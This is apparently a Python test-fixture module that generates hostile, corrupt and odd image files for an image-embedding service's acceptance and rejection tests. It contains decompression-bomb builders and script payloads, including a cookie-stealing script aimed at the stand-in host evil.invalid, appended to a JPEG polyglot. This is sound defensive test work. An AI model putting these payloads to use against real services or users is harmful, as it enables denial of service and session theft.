"""Hostile, broken and odd image files, generated in code at test time (nothing binary is committed).

Each :class:`HostileFile` says whether the service must accept it (a valid image, however odd:
200 from /embed, used by training) or reject it (422 naming the file, skipped by training with
the reason), and a fragment the rejection reason must contain. The same corpus feeds the API
tests, the memory-leak check and the training test, so all three agree on what "bad" means.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import numpy as np
from PIL import Image

# Reason fragments, as shared/preprocessing.py words them.
EMPTY = "empty file"
NOT_IMAGE = "not a supported image"
CORRUPT = "corrupt"  # "image header is corrupt" or "image data is truncated or corrupt"
TOO_LARGE = "too large to decode"  # Pillow's bomb guard fires before our own max_pixels check
UNSUPPORTED = "unsupported image format"

BOMB_SIDE = 30_000


@dataclass(frozen=True)
class HostileFile:
    """One corpus entry; ``name`` is safe to write to disk (training test) and to upload."""

    name: str
    data: bytes
    accepted: bool
    reason: str = ""  # fragment of the rejection reason; empty when accepted
    about: str = ""


# --- building blocks -------------------------------------------------------------------------


def _encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _gradient(size: tuple[int, int] = (40, 30), mode: str = "RGB") -> Image.Image:
    width, height = size
    x = np.linspace(0, 255, width, dtype=np.float64)[None, :]
    y = np.linspace(0, 255, height, dtype=np.float64)[:, None]
    rgb = np.stack([np.broadcast_to(x, (height, width)), np.broadcast_to(y, (height, width)), (x + y) / 2 % 256], -1)
    return Image.fromarray(rgb.astype(np.uint8), "RGB").convert(mode)


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_bomb(side: int = BOMB_SIDE) -> bytes:
    """A real ``side``×``side`` 1-bit PNG of zero rows: ~110 KB on disk, 900 M pixels decoded.

    Written with zlib directly, row by row, so building it never allocates the decoded image.
    """
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte + packed 1-bit pixels
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit grayscale
    return PNG_SIGNATURE + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def jpeg_header_bomb() -> bytes:
    """A valid JPEG whose SOF0 frame claims 65,500×65,500 pixels (the data is a tiny image's)."""
    data = bytearray(_encode(_gradient((16, 16)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65_500, 65_500)  # height, width
    return bytes(data)


def gif_header_bomb() -> bytes:
    """A GIF whose logical screen and only frame claim 65,535×65,535 pixels."""
    data = bytearray(_encode(_gradient((8, 8)), "GIF"))
    data[6:10] = struct.pack("<HH", 65_535, 65_535)
    descriptor = data.index(b"\x2c", 13)  # image descriptor after the colour table
    data[descriptor + 5 : descriptor + 9] = struct.pack("<HH", 65_535, 65_535)
    return bytes(data)


def _png_with_bad_crc() -> bytes:
    data = bytearray(_encode(_gradient(), "PNG"))
    ihdr_crc = len(PNG_SIGNATURE) + 8 + 13  # length + type + 13-byte IHDR payload
    data[ihdr_crc] ^= 0xFF
    return bytes(data)


def _png_with_corrupt_idat() -> bytes:
    """Valid header, IDAT payload overwritten with noise (CRC recomputed, so only zlib notices)."""
    png = _encode(_gradient(), "PNG")
    start = png.index(b"IDAT") - 4
    length = struct.unpack(">I", png[start : start + 4])[0]
    noise = bytes(np.random.default_rng(1).integers(0, 256, length, dtype=np.uint8))
    return png[:start] + _png_chunk(b"IDAT", noise) + png[start + 12 + length :]


def _png_zero_width() -> bytes:
    header = struct.pack(">IIBBBBB", 0, 10, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 10)
    return PNG_SIGNATURE + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def _zip_of(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def _animated(fmt: str) -> bytes:
    frames = [_gradient((32, 32)).rotate(angle) for angle in (0, 90, 180)]
    return _encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)


def _sixteen_bit_png() -> bytes:
    ramp = np.linspace(0, 65535, 48 * 32, dtype=np.uint16).reshape(32, 48)
    image = Image.fromarray(ramp)
    assert image.mode == "I;16"
    return _encode(image, "PNG")


def _palette_transparent_png() -> bytes:
    image = _gradient().convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    return _encode(image, "PNG", transparency=0)


def _exif_rotated_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to display
    return _encode(_gradient((48, 24)), "JPEG", exif=exif)


def huge_legal_png(width: int = 5_000, height: int = 4_000) -> bytes:
    """20 M pixels: under the default max_pixels, so it must be decoded, not refused."""
    image = Image.new("RGB", (width, height), (30, 120, 200))
    image.paste((250, 250, 250), (width // 4, height // 4, width // 2, height // 2))
    return _encode(image, "PNG", compress_level=1)


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">
  <script>alert(1)</script><rect width="64" height="64" fill="red"/>
</svg>
"""
HTML = b"<!doctype html><html><body><script>fetch('/admin/reload')</script><img src=x></body></html>\n"
SCRIPT_TAIL = b"<script>document.location='http://evil.invalid/?c='+document.cookie</script>"


# --- the corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Entry:
    name: str
    accepted: bool
    reason: str
    about: str
    build: Callable[[], bytes]


def _rejected(name: str, reason: str, about: str, build: Callable[[], bytes]) -> _Entry:
    return _Entry(name, False, reason, about, build)


def _accepted(name: str, about: str, build: Callable[[], bytes]) -> _Entry:
    return _Entry(name, True, "", about, build)


def _png() -> bytes:
    return _encode(_gradient(), "PNG")


def _jpeg() -> bytes:
    return _encode(_gradient((64, 48)), "JPEG", quality=90)


def _png_with_text_bomb() -> bytes:
    """A valid small PNG carrying a zTXt chunk that inflates to 64 MB."""
    png = _png()
    compressor = zlib.compressobj(9)
    text = b"".join(compressor.compress(b"\0" * (1 << 20)) for _ in range(64)) + compressor.flush()
    chunk = _png_chunk(b"zTXt", b"Comment\0\0" + text)
    first_idat = png.index(b"IDAT") - 4
    return png[:first_idat] + chunk + png[first_idat:]


_ENTRIES: tuple[_Entry, ...] = (
    # Not images at all
    _rejected("empty.png", EMPTY, "zero bytes", lambda: b""),
    _rejected("text.png", NOT_IMAGE, "plain text named .png", lambda: b"hello, I am not a picture\n" * 3),
    _rejected("page.png", NOT_IMAGE, "HTML with a script, named .png", lambda: HTML),
    _rejected("drawing.svg", NOT_IMAGE, "SVG with a script", lambda: SVG),
    _rejected("drawing_svg.png", NOT_IMAGE, "SVG named .png", lambda: SVG),
    _rejected("document.pdf", NOT_IMAGE, "PDF (Pillow writes it, cannot read it)", lambda: _encode(_gradient(), "PDF")),
    _rejected("archive.png", NOT_IMAGE, "ZIP holding a PNG, named .png", lambda: _zip_of("a.png", _png())),
    _rejected("random.jpg", NOT_IMAGE, "random bytes", lambda: bytes(np.random.default_rng(0).bytes(4096))),
    _rejected("nul.png", NOT_IMAGE, "NUL bytes", lambda: b"\x00" * 1000),
    _rejected("html_then_png.png", NOT_IMAGE, "HTML with a PNG appended", lambda: HTML + _png()),
    # Images Pillow knows that the service does not take
    _rejected("icon.ico", UNSUPPORTED, "ICO, outside the allow-list", lambda: _encode(_gradient((32, 32)), "ICO")),
    _rejected("pixmap.ppm", UNSUPPORTED, "PPM, outside the allow-list", lambda: _encode(_gradient(), "PPM")),
    # Broken images
    _rejected("signature_only.png", CORRUPT, "PNG signature and nothing else", lambda: PNG_SIGNATURE),
    _rejected("truncated.png", CORRUPT, "PNG cut in the middle of IDAT", lambda: _png()[: len(_png()) // 2]),
    _rejected("truncated.jpg", CORRUPT, "JPEG cut in half", lambda: _jpeg()[: len(_jpeg()) // 2]),
    _rejected("truncated.gif", CORRUPT, "GIF cut after its header", lambda: _encode(_gradient(), "GIF")[:60]),
    _rejected("truncated.webp", CORRUPT, "WebP cut after its header", lambda: _encode(_gradient(), "WEBP")[:40]),
    _rejected("bad_crc.png", CORRUPT, "PNG with a wrong IHDR CRC", _png_with_bad_crc),
    _rejected("corrupt_idat.png", CORRUPT, "PNG whose IDAT is noise", _png_with_corrupt_idat),
    _rejected("zero_width.png", CORRUPT, "PNG header saying 0×10 pixels", _png_zero_width),
    _rejected("jpeg_no_frame.jpg", CORRUPT, "JPEG start marker, then zeros", lambda: b"\xff\xd8\xff\xe0" + bytes(64)),
    _rejected("text_bomb.png", CORRUPT, "PNG with a zTXt chunk inflating to 64 MB", _png_with_text_bomb),
    # Decompression bombs
    _rejected("bomb.png", TOO_LARGE, f"{BOMB_SIDE}×{BOMB_SIDE} PNG of ~110 KB", png_bomb),
    _rejected("bomb.jpg", TOO_LARGE, "JPEG header claiming 65,500×65,500", jpeg_header_bomb),
    _rejected("bomb.gif", TOO_LARGE, "GIF header claiming 65,535×65,535", gif_header_bomb),
    # Valid but odd: all must be embedded
    _accepted("one_pixel.png", "1×1 PNG", lambda: _encode(Image.new("RGB", (1, 1), (9, 99, 199)), "PNG")),
    _accepted("sixteen_bit.png", "16-bit grayscale PNG", _sixteen_bit_png),
    _accepted("palette_transparent.png", "palette PNG with a transparent index", _palette_transparent_png),
    _accepted("grey_alpha.png", "grayscale + alpha PNG", lambda: _encode(_gradient(mode="LA"), "PNG")),
    _accepted("cmyk.jpg", "CMYK JPEG", lambda: _encode(_gradient(mode="CMYK"), "JPEG")),
    _accepted("progressive.jpg", "progressive JPEG", lambda: _encode(_gradient(), "JPEG", progressive=True)),
    _accepted("exif_rotated.jpg", "JPEG with an EXIF orientation", _exif_rotated_jpeg),
    _accepted("animated.gif", "animated GIF (first frame)", lambda: _animated("GIF")),
    _accepted("animated.webp", "animated WebP (first frame)", lambda: _animated("WEBP")),
    _accepted("one_bit.bmp", "1-bit BMP", lambda: _encode(_gradient(mode="1"), "BMP")),
    _accepted("float.tiff", "32-bit float TIFF", lambda: _encode(_gradient(mode="F"), "TIFF")),
    _accepted("huge_legal.png", "5000×4000 PNG, under the default max_pixels", huge_legal_png),
    # Polyglots: valid images with a payload appended. The service only decodes pixels and never
    # stores or serves the bytes back, so the payload is inert and the image is accepted.
    _accepted("png_zip_polyglot.png", "PNG with a ZIP appended", lambda: _png() + _zip_of("x.html", HTML)),
    _accepted("gif_html_polyglot.gif", "GIF with HTML appended", lambda: _encode(_gradient(), "GIF") + HTML),
    _accepted("jpeg_script_tail.jpg", "JPEG with a script tail", lambda: _jpeg() + SCRIPT_TAIL),
)
CORPUS_NAMES: tuple[str, ...] = tuple(entry.name for entry in _ENTRIES)
assert len(set(CORPUS_NAMES)) == len(CORPUS_NAMES), "corpus names must be unique"


@cache
def hostile_file(name: str) -> HostileFile:
    """One corpus entry, built on first use (the bombs and the huge image take a moment)."""
    entry = next(entry for entry in _ENTRIES if entry.name == name)
    return HostileFile(entry.name, entry.build(), entry.accepted, entry.reason, entry.about)


def hostile_files() -> list[HostileFile]:
    return [hostile_file(name) for name in CORPUS_NAMES]


def rejected_files() -> list[HostileFile]:
    return [f for f in hostile_files() if not f.accepted]


def accepted_files() -> list[HostileFile]:
    return [f for f in hostile_files() if f.accepted]


def write_corpus(folder: Path) -> list[HostileFile]:
    """Write every corpus file into ``folder`` under its name (all names are safe file names)."""
    folder.mkdir(parents=True, exist_ok=True)
    files = hostile_files()
    for hostile in files:
        (folder / hostile.name).write_bytes(hostile.data)
    return files
